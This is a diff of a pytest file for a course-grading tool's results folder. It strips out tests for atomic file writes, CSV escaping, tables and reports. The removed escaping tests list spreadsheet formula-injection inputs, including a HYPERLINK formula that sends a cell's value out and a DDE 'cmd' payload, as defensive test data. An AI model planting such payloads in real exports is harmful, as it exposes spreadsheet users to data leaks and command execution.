@@ -1,7 +1,6 @@
-"""What is written from the records: whole files whatever happens, and no formula in a cell."""
+"""The folder of results: a run that was stopped goes on, and what is there is whole."""
 
 import csv
-import io
 import json
 import os
 import signal
@@ -14,21 +13,11 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
-from sample_records import AVERAGE, RUN, SATURATED, SLIP, missing, not_run, sample
+import sample_records
+from sample_records import RUN, missing, not_run, sample
 
-from course_grading.results.folder import (
-    NBGRADER_COLUMNS,
-    Found,
-    Results,
-    cell,
-    grades_table,
-    nbgrader_table,
-    plain,
-    report,
-    write_atomically,
-)
+from course_grading.results.folder import Results
+from course_grading.results.record import Found
 
 
 def rows(path: Path) -> list[dict[str, str]]:
@@ -37,124 +26,7 @@ def rows(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(file))
 
 
-def rows_of(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text, newline="")))
-
-
-class TestWriting:
-    def test_writes_and_replaces_for_the_owner_only(self, tmp_path: Path) -> None:
-        path = tmp_path / "grades.csv"
-        write_atomically(path, "old")
-        write_atomically(path, "new ş")
-        assert path.read_text("utf-8") == "new ş"
-        assert stat.S_IMODE(path.stat().st_mode) == 0o600
-        assert os.listdir(tmp_path) == ["grades.csv"]
-
-    def test_a_symbolic_link_is_refused_and_its_target_left(self, tmp_path: Path) -> None:
-        elsewhere = tmp_path / "elsewhere"
-        elsewhere.write_text("mine")
-        (tmp_path / "grades.csv").symlink_to(elsewhere)
-        with pytest.raises(OSError, match="symbolic link"):
-            write_atomically(tmp_path / "grades.csv", "x")
-        (tmp_path / "nowhere.csv").symlink_to(tmp_path / "not there")
-        with pytest.raises(OSError, match="symbolic link"):
-            write_atomically(tmp_path / "nowhere.csv", "x")
-        assert elsewhere.read_text() == "mine"
-
-    def test_a_folder_or_a_pipe_is_refused(self, tmp_path: Path) -> None:
-        os.mkfifo(tmp_path / "pipe")
-        for path in (tmp_path, tmp_path / "pipe"):
-            with pytest.raises(OSError, match="not a plain file"):
-                write_atomically(path, "x")
-
-    def test_a_failure_leaves_the_old_file_and_nothing_else(
-        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-    ) -> None:
-        path = tmp_path / "grades.csv"
-        write_atomically(path, "old")
-
-        def full(descriptor: int) -> None:
-            raise OSError(28, "No space left on device")
-
-        monkeypatch.setattr(os, "fsync", full)
-        with pytest.raises(OSError, match="No space"):
-            write_atomically(path, "new")
-        assert path.read_text() == "old"
-        assert os.listdir(tmp_path) == ["grades.csv"]
-
-
-class TestCells:
-    @pytest.mark.parametrize(
-        "text",
-        [
-            '=HYPERLINK("http://example.org?x="&A1,"click")',
-            "+1+cmd|' /C calc'!A0",
-            "-2+3",
-            "@SUM(A1:A9)",
-            "\t=1+1",
-            "\r=1+1",
-            "\n=1+1",
-            "  =1+1",
-            "\u00a0=1+1",
-            "\u3000=1+1",
-            '"=1+1',
-            "'=1+1",
-            "＝1+1",
-            "＋1",
-            "－1+1",
-            "＠SUM(1)",
-            "−1+1",
-            "\u200b=1+1",
-            "\ufeff=1+1",
-            "\x00=1+1",
-            "\x1b[31m=1+1",
-        ],
-    )
-    def test_a_formula_becomes_text(self, text: str) -> None:
-        written = cell(text)
-        assert isinstance(written, str)
-        assert written[0] in "'␀"
-        assert "\n" not in written and "\r" not in written and "\t" not in written
-
-    def test_a_formula_behind_a_semicolon_is_text_too(self) -> None:
-        """Where ; stands between cells, a file with commas is cut at it."""
-        assert cell('Ali;=1+1; "+2') == "Ali;'=1+1;' \"+2"
-
-    @pytest.mark.parametrize("number", ["-1", "+2.5", "007", "12"])
-    def test_numbers_stay_numbers(self, number: str) -> None:
-        assert cell(number) == number
-        assert cell(-1) == -1
-        assert cell(None) is None
-
-    def test_a_name_stays_readable_and_can_be_had_back(self) -> None:
-        assert cell("-Ali") == "'-Ali"
-        assert plain("'-Ali") == "-Ali"
-        for name in ("'s-Hertogenbosch", "O'Neill; Pat", "'=x", "a;'=b"):
-            assert plain(str(cell(name))) == name
-        assert cell("'s-Hertogenbosch") == "'s-Hertogenbosch"
-
-    def test_long_text_is_cut_and_surrogates_do_not_stop_it(self) -> None:
-        written = str(cell("x" * 1_000_000))
-        assert len(written) < 32_767 and written.endswith("(cut)")
-        assert cell("a\ud800b") == "a\ufffdb"
-
-    @given(st.text(st.characters(), max_size=40))
-    def test_whatever_the_text_no_cell_runs(self, text: str) -> None:
-        written = str(cell(text))
-        written.encode("utf-8")
-        first = written.lstrip('" ’‘“”`')[:1]
-        assert first not in tuple("=@＝＋－＠") and not {"\n", "\r", "\t"} & set(written)
-        if first in ("+", "-"):
-            float(written)
-
-    @given(st.lists(st.from_regex(r"[=+@;,'\"A-Za-z0-9ş.-]{1,12}", fullmatch=True), unique=True))
-    def test_ids_come_back(self, ids: list[str]) -> None:
-        records = [sample(student, key=f"k{i}") for i, student in enumerate(ids)]
-        for text in (grades_table(records), nbgrader_table(records)):
-            assert [plain(row["student_id"]) for row in rows_of(text)] == ids
-
-
-class TestTables:
+class TestFinishing:
     def test_everybody_is_in_it_whatever_happened(self, tmp_path: Path) -> None:
         everybody = [
             sample("ayse"),
@@ -175,102 +47,6 @@ class TestTables:
         with (tmp_path / "out" / "nbgrader.csv").open(newline="") as file:
             assert len(list(csv.DictReader(file))) == 4
 
-    def test_an_unmarked_answer_leaves_its_cell_and_the_total_empty(self) -> None:
-        [row] = rows_of(grades_table([sample(seconds_late=90.0)]))
-        assert [row[name] for name in ("q1", "q2", "q3", "q4")] == ["40.0", "10.0", "", ""]
-        assert row["automatic"] == "50.0" and row["automatic_max"] == "80.0"
-        assert row["written"] == "" and row["written_max"] == "20.0" and row["to_mark"] == "2"
-        assert row["total_so_far"] == "50.0" and row["total"] == "" and row["max"] == "100.0"
-        assert row["hours_late"] == "0.03"
-
-    def test_marked_and_unanswered_ones_make_a_total(self) -> None:
-        written = (replace(AVERAGE, points=10.0), replace(SATURATED, text=" \n"))
-        [row] = rows_of(grades_table([sample(written=written, seconds_late=0.0)]))
-        assert [row["q3"], row["q4"]] == ["10.0", "0.0"]
-        assert row["written"] == "10.0" and row["to_mark"] == "0"
-        assert row["total"] == row["total_so_far"] == "60.0"
-        assert row["hours_late"] == "0.0"
-
-    def test_nobody_who_is_late_reads_0(self) -> None:
-        [row] = rows_of(grades_table([sample(seconds_late=1.0)]))
-        assert float(row["hours_late"]) > 0
-
-    def test_the_columns_of_nbgrader(self) -> None:
-        text = nbgrader_table(
-            [
-                sample(submitted_at="2026-11-20T23:59:10+03:00", name="Yılmaz, Ayşe"),
-                missing("bora"),
-                sample("can", submitted_at="yesterday"),
-            ]
-        )
-        ayse, bora, can = rows_of(text)
-        assert list(ayse) == list(NBGRADER_COLUMNS)
-        assert ayse["timestamp"] == "2026-11-20 20:59:10"
-        assert (ayse["last_name"], ayse["first_name"]) == ("Yılmaz", "Ayşe")
-        assert ayse["score"] == ayse["raw_score"] == "50.0" and ayse["max_score"] == "100.0"
-        assert (bora["timestamp"], bora["score"]) == ("", "0.0")
-        assert can["timestamp"] == "yesterday" and can["last_name"] == "Ayşe Yılmaz"
-
-    def test_the_columns_are_those_that_nbgrader_writes(self) -> None:
-        try:
-            from nbgrader.plugins import export
-        except ImportError:
-            pytest.skip("nbgrader is not installed")
-        source = Path(export.__file__).read_text()
-        written = source[source.index("keys = [") : source.index("fh.write")]
-        assert [word for word in written.split('"') if word.isidentifier()] == [*NBGRADER_COLUMNS]
-
-    def test_two_records_with_one_key_are_refused_before_anything_is_written(
-        self, tmp_path: Path
-    ) -> None:
-        with Results.open(tmp_path / "out", RUN) as results:
-            with pytest.raises(ValueError, match="same key, ayse"):
-                results.finish([sample("ayse"), sample("other", key="ayse")])
-            assert not list((tmp_path / "out").glob("*.csv"))
-
-
-class TestReport:
-    def test_it_counts_and_says_how_often_each_slip_was_said(self) -> None:
-        marked = (replace(AVERAGE, points=10.0), replace(SATURATED, text=None))
-        everybody = [
-            sample("ayse", written=marked),
-            sample("bora", seconds_late=3600.0, notes=("a note",)),
-            missing("can"),
-            not_run("deniz"),
-        ]
-        found = Found(("a problem",), ("a duplicate",), ("somebody unknown",))
-        made = report(everybody, RUN, found)
-        assert made["students"] == 4
-        assert made["by_status"] == {
-            "graded": 2,
-            "partly graded": 0,
-            "could not be run": 1,
-            "missing": 1,
-        }
-        assert made["missing"] == ["can"]
-        assert made["could_not_be_run"] == [{"student": "deniz", "reason": "the file is empty."}]
-        assert made["late"] == [{"student": "bora", "hours": 1.0}]
-        assert made["points"]["automatic"]["median"] == 50.0
-        assert made["points"]["total"]["students"] == 1
-        second = made["questions"][1]
-        assert second["points"]["mean"] == 10.0 and second["out_of"] == 40.0
-        assert second["parts"][0]["said"] == [{"words": SLIP, "students": 2}]
-        average, saturated = made["written"]
-        assert (average["marked"], average["to_mark"], average["not_answered"]) == (1, 1, 0)
-        assert (saturated["marked"], saturated["to_mark"], saturated["not_answered"]) == (0, 1, 1)
-        assert made["found"]["problems"] == ("a problem",)
-        assert made["sandboxed"] is True
-
-    def test_quartiles(self) -> None:
-        part = sample().questions[0].parts[0]
-        everybody = []
-        for i, points in enumerate((0.0, 5.0, 10.0, 20.0)):
-            question = replace(sample().questions[0], parts=(replace(part, points=points),))
-            everybody.append(sample(f"s{i}", questions=(question,)))
-        made = report(everybody, RUN, Found())["questions"][0]["points"]
-        assert [made[name] for name in ("lowest", "lower_quartile", "median")] == [0.0, 3.75, 7.5]
-        assert [made[name] for name in ("upper_quartile", "highest")] == [12.5, 20.0]
-
     def test_the_seed_is_in_a_file_of_the_owner_and_nowhere_else(self, tmp_path: Path) -> None:
         out = tmp_path / "out"
         with Results.open(out, RUN) as results:
@@ -285,12 +61,13 @@ class TestReport:
         assert stat.S_IMODE((out / ".run.json").stat().st_mode) == 0o600
         assert stat.S_IMODE(out.stat().st_mode) == 0o700
 
-    def test_a_submission_that_was_run_without_a_sandbox_is_told(self) -> None:
-        made = report([sample("ayse", sandboxed=False), sample("bora")], RUN, Found())
-        assert made["sandboxed"] is False and made["without_sandbox"] == ["ayse"]
-
-    def test_no_records_at_all(self) -> None:
-        assert report([], RUN, Found())["points"]["total"]["mean"] is None
+    def test_two_records_with_one_key_are_refused_before_anything_is_written(
+        self, tmp_path: Path
+    ) -> None:
+        with Results.open(tmp_path / "out", RUN) as results:
+            with pytest.raises(ValueError, match="same key, ayse"):
+                results.finish([sample("ayse"), sample("other", key="ayse")])
+            assert not list((tmp_path / "out").glob("*.csv"))
 
 
 class TestRuns:
@@ -453,8 +230,10 @@ WRITES_FOR_EVER = """
 import sys
 from dataclasses import replace
 sys.path.insert(0, sys.argv[2])
+import sample_records
 from sample_records import RUN, sample
-from course_grading.results.folder import Found, Results
+from course_grading.results.folder import Results
+from course_grading.results.record import Found
 
 results = Results.open(sys.argv[1], RUN)
 print("begun", flush=True)
@@ -473,7 +252,7 @@ def test_killed_at_any_moment_every_file_is_whole(tmp_path: Path) -> None:
     out = tmp_path / "out"
     for i in range(12):
         with subprocess.Popen(
-            [sys.executable, "-c", WRITES_FOR_EVER, out, Path(__file__).parent],
+            [sys.executable, "-c", WRITES_FOR_EVER, out, Path(sample_records.__file__).parent],
             stdout=subprocess.PIPE,
             text=True,
         ) as writer:
@@ -493,7 +272,9 @@ def test_killed_at_any_moment_every_file_is_whole(tmp_path: Path) -> None:
             elif path.suffix == ".html":
                 assert text.startswith("<!DOCTYPE html>") and text.endswith("</html>\n")
             else:
-                assert [row["assignment"] for row in rows_of(text)] == ["hw2"] * 4
+                assert [row["assignment"] for row in csv.DictReader(text.splitlines())] == [
+                    "hw2"
+                ] * 4
         with Results.open(out, RUN) as results:  # the lock went with the process
             for record in results.records():
                 assert results.find(record.key, "d1") == record
